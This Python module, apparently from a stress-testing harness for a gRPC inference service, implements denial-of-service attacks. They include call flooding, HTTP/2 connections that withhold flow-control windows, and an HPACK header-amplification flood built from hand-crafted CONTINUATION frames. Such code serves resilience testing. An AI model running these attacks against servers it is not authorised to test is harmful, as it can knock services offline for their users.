"""Attacks over the public gRPC API: many calls of a usual client, and frames of HTTP/2 that no
usual client sends."""

from __future__ import annotations

import asyncio
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

import grpc

from headwater.proto import common_pb2, inference_pb2, inference_pb2_grpc, processor_pb2

from . import values
from .attack import CLOSED, NO_ANSWER, Target

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
ACK = 1
INITIAL_WINDOW_SIZE = 4
FIRST_DYNAMIC = 62
"""Index of the newest entry of HPACK's dynamic table."""
MAX_FRAME_LEN = 16_384
METHOD = "/headwater.v1.Inference/Chat"

Message = Callable[[str], inference_pb2.ChatRequest]
"""Request by the model's name."""


def small_chat(model: str) -> inference_pb2.ChatRequest:
    user = common_pb2.ChatMessage(role="user", content="Hi")
    return inference_pb2.ChatRequest(
        model=model,
        conversation=processor_pb2.Conversation(messages=[user]),
        sampling=common_pb2.Sampling(max_tokens=1),
    )


def costly_kwargs(model: str) -> inference_pb2.ChatRequest:
    """A chat whose variables of the template hold short numbers with large exponents."""
    asked = small_chat(model)
    asked.conversation.chat_template_kwargs_json = (b'{"x":%s}' % values.exponents()).decode()
    return asked


@dataclass(frozen=True, slots=True)
class Calls:
    """Calls that are all opened at once over one channel, each again when it has ended."""

    message: Message
    count: int
    pause: float = 1.0

    def prepare(self, model: str) -> None:
        self.message(model)

    async def run(self, target: Target, seen: Counter[str]) -> None:
        message = self.message(target.model)
        metadata = (("authorization", f"Bearer {target.key}"),)
        async with grpc.aio.insecure_channel(target.grpc) as channel:
            chat = inference_pb2_grpc.InferenceStub(channel).Chat

            async def call_on() -> None:
                while True:
                    outcome = NO_ANSWER
                    try:
                        await chat(message, metadata=metadata)
                        outcome = grpc.StatusCode.OK.name
                    except grpc.aio.AioRpcError as error:
                        outcome = error.code().name
                    finally:
                        seen[outcome] += 1
                    await asyncio.sleep(self.pause)

            async with asyncio.TaskGroup() as group:
                for _ in range(self.count):
                    group.create_task(call_on())


@dataclass(frozen=True, slots=True)
class UnreadCalls:
    """Connections whose client grants no byte of flow control: answers to its calls stay with the
    server."""

    connections: int
    calls: int
    """Number of calls of each connection."""

    def prepare(self, model: str) -> None:
        pass

    async def run(self, target: Target, seen: Counter[str]) -> None:
        window = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
        head = literals(call_headers(target))
        body = length_prefixed(small_chat(target.model))
        sent = [PREFACE, frame(SETTINGS, 0, 0, window)]
        for stream in range(1, 2 * self.calls, 2):
            sent.append(frame(HEADERS, END_HEADERS, stream, head))
            sent.append(frame(DATA, END_STREAM, stream, body))
        await _on_connections(target, self.connections, b"".join(sent), self.calls, seen)


@dataclass(frozen=True, slots=True)
class HeadReferences:
    """Calls whose heads name one header of 4 kB again and again: each byte becomes 4 kB when it is
    decoded."""

    connections: int
    calls: int
    references: int = 15_000

    def prepare(self, model: str) -> None:
        pass

    async def run(self, target: Target, seen: Counter[str]) -> None:
        stored = b"\x40" + _string(b"x-a") + _string(b"a" * 3900)
        reference = (0x80 | FIRST_DYNAMIC).to_bytes(1, "big")
        head = literals(call_headers(target)) + stored
        body = length_prefixed(small_chat(target.model))
        sent = [PREFACE, frame(SETTINGS, 0, 0, b"")]
        for stream in range(1, 2 * self.calls, 2):
            sent.append(frame(HEADERS, 0, stream, head))
            for left in range(self.references, 0, -MAX_FRAME_LEN):
                flags = END_HEADERS if left <= MAX_FRAME_LEN else 0
                payload = reference * min(left, MAX_FRAME_LEN)
                sent.append(frame(CONTINUATION, flags, stream, payload))
            sent.append(frame(DATA, END_STREAM, stream, body))
        await _on_connections(target, self.connections, b"".join(sent), self.calls, seen)


def call_headers(target: Target) -> dict[str, str]:
    return {
        ":method": "POST",
        ":scheme": "http",
        ":path": METHOD,
        ":authority": target.grpc,
        "content-type": "application/grpc",
        "te": "trailers",
        "authorization": f"Bearer {target.key}",
    }


def length_prefixed(message: inference_pb2.ChatRequest) -> bytes:
    """A message of a gRPC call, which is not compressed."""
    text = message.SerializeToString()
    return b"\0" + len(text).to_bytes(4, "big") + text


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    assert len(payload) <= MAX_FRAME_LEN
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


def literals(headers: dict[str, str]) -> bytes:
    """Headers as HPACK's literals without indexing (RFC 7541, 6.2.2)."""
    return b"".join(
        b"\0" + _string(name.encode()) + _string(text.encode()) for name, text in headers.items()
    )


def _string(text: bytes) -> bytes:
    """A string of HPACK, its length in a prefix of seven bits (RFC 7541, 5.1)."""
    left = len(text) - 127
    if left < 0:
        return bytes((len(text),)) + text
    length = bytearray((127,))
    while left >= 128:
        length.append(left % 128 | 128)
        left //= 128
    length.append(left)
    return bytes(length) + text


async def _on_connections(
    target: Target, connections: int, sent: bytes, calls: int, seen: Counter[str]
) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(_hold(target, sent, calls, seen))


async def _hold(target: Target, sent: bytes, calls: int, seen: Counter[str]) -> None:
    """Sends all bytes on one connection and reads frames until the server closes it. Counts calls
    by their results."""
    outcomes: dict[int, str] = {}
    rest = NO_ANSWER
    writer = None
    try:
        reader, writer = await asyncio.open_connection(*target.grpc_address)
        writer.write(sent)
        while True:
            head = await reader.readexactly(9)
            await reader.readexactly(int.from_bytes(head[:3], "big"))
            kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
            if kind == SETTINGS and not flags & ACK:
                writer.write(frame(SETTINGS, ACK, 0, b""))
            elif kind in (DATA, HEADERS) and flags & END_STREAM:
                outcomes[stream] = "ended"
            elif kind == RESET:
                # A server that has answered resets a stream, too.
                outcomes.setdefault(stream, "reset")
    except (OSError, EOFError):
        rest = CLOSED
    finally:
        seen.update(outcomes.values())
        if left := calls - len(outcomes):
            seen[rest] += left
        if writer is not None:
            writer.transport.abort()
